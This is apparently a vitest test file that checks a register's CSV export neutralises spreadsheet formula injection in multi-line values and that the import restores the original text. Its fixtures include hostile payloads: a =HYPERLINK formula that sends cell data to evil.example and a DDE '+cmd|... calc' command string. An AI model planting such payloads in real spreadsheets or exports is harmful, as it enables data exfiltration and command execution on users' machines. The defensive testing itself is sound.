// Attack 4: formula escaping in CSV was bypassed by values with line breaks ("x\n=HYPERLINK(…)",
// "=1+1\nfoo"), both in the register export and in /data/offers.csv. Every line that could start a
// formula must be neutralised, and the import must give back exactly the original text.
import { describe, expect, it, vi } from 'vitest';
import { parseCell } from '../../src/lib/register/cells.ts';
import { REGISTER_HEADER } from '../../src/lib/register/columns.ts';
import { csvField } from '../../src/lib/register/csv.ts';
import { registerCsv } from '../../src/lib/register/exportRegister.ts';
import { escapeApostropheLines, unescapeFormulaLines } from '../../src/lib/register/formulaEscape.ts';
import { importRegister } from '../../src/lib/register/importRegister.ts';
import { readRegisterCsv } from '../../src/lib/register/io.ts';
import { TODAY } from './helpers.ts';
import { contentFixture, offersOf } from './registerHelpers.ts';

/** Hostile and awkward texts, each with the CSV field the export must write, by hand. */
const CASES: Array<[string, string]> = [
  ['x\n=HYPERLINK("http://evil.example/?"&A1,"click")', '"x\n\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
  ['=1+1\nfoo', '"\'=1+1\nfoo"'],
  ["foo\r\n+cmd|' /C calc'!A0", "\"foo\r\n'+cmd|' /C calc'!A0\""],
  ['a\r-2+3', '"a\r\'-2+3"'],
  ['@SUM(1)', '"\'@SUM(1)"'],
  ['\t=1+1', '"\'\t=1+1"'],
  ['\r=1+1', '"\'\r\'=1+1"'],
  ['-', '"\'-"'],
  ["'=already quoted", '"\'\'=already quoted"'],
  ["line\n''@x", "\"line\n'''@x\""],
  ["it's = fine", "it's = fine"],
  ['plain, with comma', '"plain, with comma"'],
  ['a; b', '"a; b"'],
  ['say "hi"', '"say ""hi"""'],
  ['Для базы отдыха', 'Для базы отдыха'],
];

describe('CSV formula escaping', { timeout: 30_000 }, () => {
  it.each(CASES)('writes %j as %s', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it.each(CASES)('reads %j back exactly from the CSV', (text) => {
    const csv = `\uFEFFid,note\r\nx,${csvField(text)}\r\n`;
    const cell = readRegisterCsv(csv).rows[0]!.cells[1];
    expect(parseCell('text', cell)).toEqual({ ok: true, value: text });
  });

  it('leaves numbers and booleans alone: a negative number is a number, not a formula', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(false)).toBe('false');
    expect(csvField(undefined)).toBe('');
  });

  it('in .xlsx cells (never formulas) adds an apostrophe only where the import would otherwise take one away', () => {
    expect(escapeApostropheLines('=1+1\nfoo')).toBe('=1+1\nfoo');
    expect(escapeApostropheLines("'=x\n'-y\n'plain")).toBe("''=x\n''-y\n'plain");
    expect(unescapeFormulaLines("''=x\n''-y\n'plain")).toBe("'=x\n'-y\n'plain");
    // A register opened in Excel and saved again keeps the CSV's apostrophes as text; they come off.
    expect(unescapeFormulaLines("x\n'=HYPERLINK(1)")).toBe('x\n=HYPERLINK(1)');
  });

  it('exports hostile multi-line texts from facts safely and imports them back unchanged', () => {
    const dir = contentFixture();
    const offers = offersOf(dir);
    const base = offers.find((o) => o.id === 'balkhash-test-base')!;
    base.facts.targetPurpose.en = 'For a recreation base\n=HYPERLINK("http://evil.example","x")';
    base.facts.targetPurpose.ru = '=1+1\nДля базы отдыха';
    const csv = registerCsv(offers);
    expect(csv).toContain(',"For a recreation base\n\'=HYPERLINK(""http://evil.example"",""x"")",');
    expect(csv).toContain(',"\'=1+1\nДля базы отдыха",');
    // No line of the file starts a formula.
    expect(csv.split(/\r\n|\n|\r/).filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);

    const table = readRegisterCsv(csv);
    const row = table.rows.find((r) => r.cells[0] === 'balkhash-test-base')!;
    expect(parseCell('text', row.cells[table.header.indexOf('targetPurpose.en')])).toEqual({
      ok: true,
      value: 'For a recreation base\n=HYPERLINK("http://evil.example","x")',
    });
    expect(parseCell('text', row.cells[table.header.indexOf('targetPurpose.ru')])).toEqual({ ok: true, value: '=1+1\nДля базы отдыха' });
    // And the import, planning against the unchanged fixture, sees exactly those two edits.
    const report = importRegister(table, { contentDir: dir, today: TODAY, dryRun: true });
    expect(report.errors).toEqual([]);
    expect(report.changed).toEqual([{ id: 'balkhash-test-base', columns: ['targetPurpose.en', 'targetPurpose.ru'] }]);
  });
});

describe('/data/offers.csv', { timeout: 30_000 }, () => {
  it('neutralises every formula line of a multi-line value', async () => {
    const dir = contentFixture();
    const offers = offersOf(dir);
    offers[0]!.facts.targetPurpose.en = 'x\n=HYPERLINK("http://evil.example")';
    offers[0]!.facts.targetPurpose.kk = '=1+1\nfoo';
    vi.doMock('../../src/lib/catalog/loadCatalog.ts', () => ({ loadCatalog: async () => ({ offers }) }));
    try {
      const { GET } = await import('../../src/pages/data/offers.csv.ts');
      const response = await GET({} as Parameters<typeof GET>[0]);
      // Response.text() drops the byte-order mark, so read the bytes.
      const bytes = new Uint8Array(await (response as Response).arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const body = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
      expect(body).toContain('"x\n\'=HYPERLINK(""http://evil.example"")"');
      expect(body).toContain('"\'=1+1\nfoo"');
      expect(body.split(/\r\n|\n|\r/).filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);
      // The columns are the register's, unchanged, then the demonstration flag the import skips.
      expect(body.slice(1, body.indexOf('\r\n'))).toBe([...REGISTER_HEADER, 'illustrative'].join(','));
    } finally {
      vi.doUnmock('../../src/lib/catalog/loadCatalog.ts');
    }
  });
});
